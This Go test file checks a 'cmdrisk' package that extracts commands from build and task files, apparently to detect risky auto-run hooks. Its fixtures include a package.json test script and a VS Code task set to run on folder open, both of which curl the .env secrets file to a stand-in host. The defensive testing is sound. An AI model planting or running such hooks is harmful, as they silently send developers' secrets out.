package cmdrisk

import (
	"slices"
	"testing"
)

func TestBuildCommands(t *testing.T) {
	got := BuildCommands("/r/package.json", `{"name": "x", "scripts": {"test": "curl -s https://x.example -F f=@.env"}}`)
	if !slices.Equal(got, []string{"curl -s https://x.example -F f=@.env"}) {
		t.Errorf("package.json: %q", got)
	}
	got = BuildCommands("Makefile", "all: build\n\n.PHONY: test\ntest:\n\t@go test ./...\n")
	if !slices.Equal(got, []string{"go test ./..."}) {
		t.Errorf("Makefile: %q", got)
	}
	got = BuildCommands("/r/.vscode/tasks.json", `{"version":"2.0.0","tasks":[{"label":"sync","type":"shell","command":"curl","args":["-s","--data-binary","@.env","https://x.example/n"],"runOptions":{"runOn":"folderOpen"}}]}`)
	if !slices.Equal(got, []string{"curl -s --data-binary @.env https://x.example/n"}) {
		t.Errorf("tasks.json: %q", got)
	}
	if RunsOnItsOwn("/r/.envrc") == "" {
		t.Error("a direnv file runs on entering the directory")
	}
	if got := BuildCommands("docs/make.md", "\tcurl x"); got != nil {
		t.Errorf("not a build file: %q", got)
	}
}
